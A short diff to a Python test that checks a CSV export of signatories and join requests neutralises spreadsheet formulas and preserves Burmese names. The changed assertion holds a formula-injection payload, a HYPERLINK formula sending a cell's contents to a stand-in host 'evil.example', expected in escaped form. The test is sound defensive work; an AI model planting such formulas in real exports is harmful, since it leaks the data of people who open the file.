@@ -49,7 +49,7 @@ def test_csv_export_neutralises_formulas_and_keeps_burmese(client, hostile):
     client.force_login(user_in(MEMBERSHIP))
     rows = csv_rows(client.get(SIGNATORIES, {"export": "csv"}))
     cells = {cell for row in rows[1:] for cell in row}
-    assert "'=HYPERLINK(\"https://evil.example/?\"&B2,\"Click me\")" in cells
+    assert '\'=HYPERLINK("https://evil.example/?"&B2,"Click me")' in cells
     assert "'@SUM(1+1)" in cells and "ဒေါ်ခင်မာ" in cells and "ab" in cells
     assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
     joins = {cell for row in csv_rows(client.get(JOIN_REQUESTS, {"export": "csv"}))[1:] for cell in row}
